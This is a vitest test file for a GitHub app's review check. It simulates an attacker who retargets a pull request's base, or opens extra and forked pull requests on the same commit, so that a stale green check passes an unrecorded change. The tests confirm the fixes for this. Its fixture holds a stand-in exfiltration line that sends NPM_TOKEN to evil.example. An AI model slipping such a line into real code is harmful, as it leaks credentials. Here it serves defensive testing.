import { afterEach, describe, expect, it } from "vitest";
import { decodeRunRecord } from "../../../src/review/index.js";
import { labeledIssue, pullRequestWebhook, retryComment, startApp } from "../../app/harness.js";
import { webhookExample } from "../../fixtures/github.js";

/**
 * Attack on the `groundfix/review` check of groundfix's own pull request (target: a green check on a pull request
 * whose diff holds a change no recorded edit made). The evidence rule checks the head against the pull request's
 * merge base (`runReviewCheck`, src/host/github/review-check.ts), but a check run belongs to a COMMIT, not to a pull
 * request, so its verdict holds wherever that commit is a head. Mallory, who can push to the branch and edit the
 * pull request, puts an unrecorded change V on a branch `evil` off the base, rebuilds groundfix's branch as
 * `evil` + the app's own recorded edits, and points the pull request at `evil`: the diff is exactly the record's
 * edits, and the review passes (rightly, for that base). Then she points the pull request back at `master`: the diff
 * GitHub shows is V plus the edits, and the green check on the head still stands.
 *
 * Fixed: a change of the pull request's base (`pull_request.edited` with `changes.base`,
 * src/events/review-trigger.ts) is a review trigger that always makes a fresh check run (the head's earlier check
 * was made against another base), and the review job's key names the base too (src/index.ts), so a retarget that
 * arrives while the push's review runs is not dropped as the same job.
 *
 * The same verdict shows on every OTHER open pull request with that head, too (one commit, one latest check run).
 * Fixed: every review lists the open pull requests with its head, forks included (`openPullsWithHead`,
 * src/host/github/head-pulls.ts) and fails a head that is the head of more than one, or of one that is not a
 * groundfix pull request (`sharedHeadProblem`); every `pull_request` event (opened, reopened, synchronize, a base
 * change) of any branch or fork whose head carries a groundfix/review check run is reviewed again
 * (`reviewOnEvent`, src/host/github/review-handler.ts), the app's own pull request's `opened` excepted, once; and the
 * delivery lists them too, after its check run (before it, for a head the branch already held).
 */
let app: Awaited<ReturnType<typeof startApp>> | undefined;
afterEach(() => {
  app?.stop();
  app = undefined;
});
const BRANCH = "groundfix/issue-1";

describe("a pull request pointed at another base after its head was reviewed", () => {
  const EVIL = 'fetch("https://evil.example/" + process.env.NPM_TOKEN);\n';

  const runsOn = (sha: string) => app!.fake.state.checkRuns.filter((r) => r.head_sha === sha);

  /** The pull request event `action` for the app's PR with head `head` on base `base` (branch, commit). */
  function event(action: string, head: string, base: { ref: string; sha: string }) {
    const pr = app!.fake.state.pulls[0]!;
    pr.base = base.ref;
    // @octokit/webhooks-examples has no `edited` example: the `synchronize` one with the action changed.
    const payload = pullRequestWebhook("synchronize", pr, { ref: BRANCH, sha: head }, base.sha);
    Object.assign(payload, { action });
    payload.pull_request.base.ref = base.ref;
    return payload;
  }

  /**
   * The app's pull request for issue #1, then mallory's set-up: `evil` = master + V (index.js gains `EVIL`), the
   * groundfix branch = `evil` + src/cart.js as the app's commit has it, and the pull request based on `evil`,
   * reviewed on that push (unless `review` is false: the push's webhook has not arrived yet). Returns the heads and
   * the groundfix/review runs on the new head so far.
   */
  async function retargetedPullRequest(review = true) {
    app = await startApp();
    await app.receive("issues", labeledIssue());
    const record = decodeRunRecord(app.fake.state.pulls[0]!.body)!;
    const master = { ref: "master", sha: app.fake.baseSha };
    const cart = app.fake.filesOf(BRANCH)!["src/cart.js"]!.content;
    const index = app.fake.filesOf("master")!["index.js"]!.content;
    app.fake.state.refs.set("evil", master.sha);
    const evil = { ref: "evil", sha: app.fake.push("evil", { "index.js": index + EVIL }) };
    app.fake.state.refs.set(BRANCH, evil.sha);
    const head = app.fake.push(BRANCH, { "src/cart.js": cart });
    expect(head).not.toBe(record.head_sha);
    app.fake.state.pulls[0]!.base = evil.ref;
    if (review) await app.receive("pull_request", event("synchronize", head, evil));
    return { head, master, evil, runs: () => runsOn(head) };
  }

  /**
   * Another open pull request with head `head`, from branch `ref` into `base` (from mallory's fork when `fork`),
   * its body a copy of the app's (run record included); returns it and its `pull_request.<action>` payload.
   */
  function otherPull(head: string, ref: string, base: { ref: string; sha: string }, fork = false) {
    const first = app!.fake.state.pulls[0]!;
    const number = app!.fake.state.nextId++;
    const html_url = first.html_url.replace(/\d+$/, String(number));
    const pr = {
      ...first,
      number,
      html_url,
      head: ref,
      base: base.ref,
      ...(fork ? { fork: { owner: "mallory", sha: head } } : {}),
    };
    if (!fork) app!.fake.state.refs.set(ref, head);
    app!.fake.state.pulls.push(pr);
    const payload = (action: string) => {
      const p = pullRequestWebhook(action, pr, { ref, sha: head }, base.sha);
      p.pull_request.base.ref = base.ref;
      if (fork) p.pull_request.head.repo = { ...p.pull_request.head.repo, id: 999, full_name: "mallory/Hello-World" };
      return p;
    };
    return { pr, payload };
  }

  /** `check_run.rerequested` of the latest groundfix/review run on `head`, as GitHub sends it for pull request `pr`. */
  function rerun(head: string, pr: { number: number; head: string; base: string }, baseSha: string) {
    const payload = webhookExample("check_run", "rerequested");
    payload.repository = labeledIssue().repository;
    const repo = { id: 1, url: "https://api.github.com/repos/Codertocat/Hello-World" };
    const pulls = [
      { number: pr.number, head: { ref: pr.head, sha: head, repo }, base: { ref: pr.base, sha: baseSha, repo } },
    ];
    Object.assign(payload.check_run, { name: "groundfix/review", head_sha: head, pull_requests: pulls });
    return payload;
  }

  it("based on `evil`, the diff is exactly the recorded edits and the review passes (right for it)", async () => {
    const { runs } = await retargetedPullRequest();
    expect(runs().map((r) => r.conclusion)).toEqual(["success"]);
  });

  it("pointed back at master, the head is reviewed again and the unrecorded change fails evidence", async () => {
    const { head, master, evil, runs } = await retargetedPullRequest();
    const edited = event("edited", head, master);
    edited.changes = { base: { ref: { from: evil.ref }, sha: { from: evil.sha } } };
    await app!.receive("pull_request", edited);
    const latest = runs().at(-1)!;
    expect(runs()).toHaveLength(2);
    expect(latest.conclusion).toBe("failure");
    expect(latest.output.summary).toContain("| Evidence | ✖ failed");
    expect(latest.output.summary).toMatch(/index\.js/);
  });

  it("an edit of the pull request that leaves its base alone (title, body) reviews nothing again", async () => {
    const { head, evil, runs } = await retargetedPullRequest();
    const edited = event("edited", head, evil);
    edited.changes = { title: { from: "groundfix: something" } };
    await app!.receive("pull_request", edited);
    expect(runs()).toHaveLength(1);
  });

  /**
   * The same head as the head of a SECOND pull request, into master (opened from another groundfix branch).
   * `reviewPullRequest` (src/host/github/review-handler.ts) used to skip a head that already carried a groundfix/review
   * check run, whatever base that run was made against, so the second pull request showed the success made for `evil`.
   * A base-keyed skip alone would not do either: with both pull requests open, the check run made last decides for
   * both (one commit, one latest run), and a re-run from the `evil` one would turn it green again.
   */
  it("a second pull request into master with the same head is reviewed against master and fails", async () => {
    const { head, master, runs } = await retargetedPullRequest();
    const second = otherPull(head, "groundfix/issue-1-copy", master);
    await app!.receive("pull_request", second.payload("opened"));
    const latest = runs().at(-1)!;
    expect(latest.conclusion).toBe("failure");
    expect(latest.output.title).toBe("Head of more than one pull request");
    expect(latest.output.summary).toContain(`is the head of 2 open pull requests`);
    expect(latest.output.summary).toContain(
      `#${second.pr.number} (\`Codertocat:groundfix/issue-1-copy\` into \`master\`)`,
    );
  });

  it("a re-run of the check from the first pull request, while the second is open, fails again", async () => {
    const { head, evil, runs } = await retargetedPullRequest();
    const second = otherPull(head, "copy", { ref: "master", sha: app!.fake.baseSha });
    await app!.receive("pull_request", second.payload("opened"));
    await app!.receive("check_run", rerun(head, app!.fake.state.pulls[0]!, evil.sha));
    expect(runs().map((r) => r.conclusion)).toEqual(["success", "failure", "failure"]);
  });

  for (const ref of ["copy", "groundfix/issue-1-copy"])
    it(`a second pull request (from \`${ref}\`) opened before the push was reviewed: never a pass`, async () => {
      const { head, evil, master, runs } = await retargetedPullRequest(false);
      const second = otherPull(head, ref, master);
      await app!.receive("pull_request", second.payload("opened")); // its webhook first
      await app!.receive("pull_request", event("synchronize", head, evil));
      expect(runs().length).toBeGreaterThan(0);
      expect(runs().map((r) => r.conclusion)).not.toContain("success");
      expect(runs().at(-1)!.output.summary).toContain("is the head of 2 open pull requests");
    });

  it("a second pull request opened while the push's review runs, after its check run exists: it fails", async () => {
    const { head, evil, master, runs } = await retargetedPullRequest(false);
    app!.fake.state.onCall = (call) => {
      // its webhook is on its way: the push's review lists the pull requests with the head once its check run exists
      if (call.route === "POST /repos/{o}/{r}/check-runs" && app!.fake.state.pulls.length === 1)
        otherPull(head, "copy", master);
    };
    await app!.receive("pull_request", event("synchronize", head, evil));
    expect(runs().map((r) => [r.status, r.conclusion])).toEqual([["completed", "failure"]]);
  });

  it("a second pull request closed, the first re-run (green again), then the second reopened: it fails", async () => {
    const { head, master, evil, runs } = await retargetedPullRequest();
    const second = otherPull(head, "copy", master);
    await app!.receive("pull_request", second.payload("opened"));
    second.pr.state = "closed";
    await app!.receive("check_run", rerun(head, app!.fake.state.pulls[0]!, evil.sha));
    expect(runs().at(-1)!.conclusion).toBe("success"); // the head of one groundfix pull request again, into evil
    second.pr.state = "open";
    await app!.receive("pull_request", second.payload("reopened"));
    expect(runs().at(-1)!.conclusion).toBe("failure");
    expect(runs().at(-1)!.output.summary).toContain(`#${second.pr.number} (\`Codertocat:copy\` into \`master\`)`);
  });

  it("a pull request from a fork with the same head, even on a `groundfix/` branch name, fails the head", async () => {
    const { head, master, runs } = await retargetedPullRequest();
    const fork = otherPull(head, "groundfix/issue-1", master, true);
    await app!.receive("pull_request", fork.payload("opened"));
    const latest = runs().at(-1)!;
    expect(latest.conclusion).toBe("failure");
    expect(latest.output.summary).toContain(`#${fork.pr.number} (\`mallory:groundfix/issue-1\` into \`master\`)`);
  });

  it("the fork's pull request alone with the head still fails: groundfix did not open it", async () => {
    const { head, master, runs } = await retargetedPullRequest();
    app!.fake.state.pulls[0]!.state = "closed";
    const fork = otherPull(head, "groundfix/issue-1", master, true);
    await app!.receive("pull_request", fork.payload("opened"));
    const latest = runs().at(-1)!;
    expect(latest.conclusion).toBe("failure");
    expect(latest.output.title).toBe("Head of a pull request groundfix did not open");
  });

  it("a fork's pull request on a head groundfix never reviewed costs one lookup and writes no check run", async () => {
    app = await startApp();
    const master = { ref: "master", sha: app.fake.baseSha };
    app.fake.state.refs.set("feature", master.sha);
    const head = app.fake.push("feature", { "README.md": "hello\n" });
    app.fake.state.pulls.push({
      number: 7,
      head: "feature",
      fork: { owner: "mallory", sha: head },
      base: "master",
      title: "docs",
      body: "",
      draft: false,
      state: "open",
      html_url: "https://github.com/Codertocat/Hello-World/pull/7",
    });
    const payload = pullRequestWebhook("opened", app.fake.state.pulls[0]!, { ref: "feature", sha: head }, master.sha);
    payload.pull_request.head.repo = { ...payload.pull_request.head.repo, id: 999, full_name: "mallory/Hello-World" };
    await app.receive("pull_request", payload);
    expect(app.fake.state.checkRuns).toEqual([]);
    expect(app.fake.state.calls.filter((c) => c.route.includes("check-runs")).map((c) => c.route)).toEqual([
      "GET /repos/{o}/{r}/commits/{sha}/check-runs",
    ]);
  });
});

/** The app's own delivery, when its head is, or becomes, the head of another pull request. */
describe("the check run the app's own run publishes on a head another pull request has", () => {
  /** Another open pull request, from `ref` into master, with the app's head `head` (its webhook not delivered). */
  function copyOf(head: string, ref: string) {
    const first = app!.fake.state.pulls[0]!;
    const number = app!.fake.state.nextId++;
    const pr = { ...first, number, head: ref, html_url: first.html_url.replace(/\d+$/, String(number)) };
    app!.fake.state.refs.set(ref, head);
    app!.fake.state.pulls.push(pr);
    return pr;
  }

  it("a `/groundfix retry` that reuses the branch's head, which another pull request also has, fails it", async () => {
    app = await startApp();
    await app.receive("issues", labeledIssue());
    const head = app.fake.state.refs.get(BRANCH)!;
    const second = copyOf(head, "copy");
    await app.receive(
      "pull_request",
      pullRequestWebhook("opened", second, { ref: "copy", sha: head }, app.fake.baseSha),
    );
    await app.receive("issue_comment", retryComment());
    expect(app.fake.state.refs.get(BRANCH)).toBe(head); // reused: the same commit
    const runs = app.fake.state.checkRuns.filter((r) => r.head_sha === head);
    expect(runs.map((r) => r.conclusion)).toEqual(["success", "failure", "failure"]);
    expect(runs.at(-1)!.output.summary).toContain("is the head of 2 open pull requests");
  });

  it("a `/groundfix retry` that reuses its pull request, pointed at another base meanwhile, fails it", async () => {
    app = await startApp();
    await app.receive("issues", labeledIssue());
    const head = app.fake.state.refs.get(BRANCH)!;
    app.fake.state.refs.set("release", app.fake.baseSha);
    app.fake.state.pulls[0]!.base = "release"; // retargeted (its own review of that is not what this test is about)
    await app.receive("issue_comment", retryComment());
    const runs = app.fake.state.checkRuns.filter((r) => r.head_sha === head);
    expect(runs.at(-1)!.conclusion).toBe("failure");
    expect(runs.at(-1)!.output.title).toBe("Pull request into another base");
    expect(runs.at(-1)!.output.summary).toContain("was reviewed against `master`");
  });

  it("a pull request opened with the new head while the run opens its own fails the head", async () => {
    app = await startApp();
    let second: { number: number } | undefined;
    app.fake.state.onCall = (call) => {
      // mallory saw the new branch and opened her pull request with its head before the run's check run exists
      if (call.route === "POST /repos/{o}/{r}/check-runs" && !second) second = copyOf(call.body.head_sha, "copy");
    };
    await app.receive("issues", labeledIssue());
    const head = app.fake.state.refs.get(BRANCH)!;
    const runs = app.fake.state.checkRuns.filter((r) => r.head_sha === head);
    expect(runs.map((r) => r.conclusion)).toEqual(["success", "failure"]);
    expect(runs.at(-1)!.output.summary).toContain(`#${second!.number} (\`Codertocat:copy\` into \`master\`)`);
  });
});
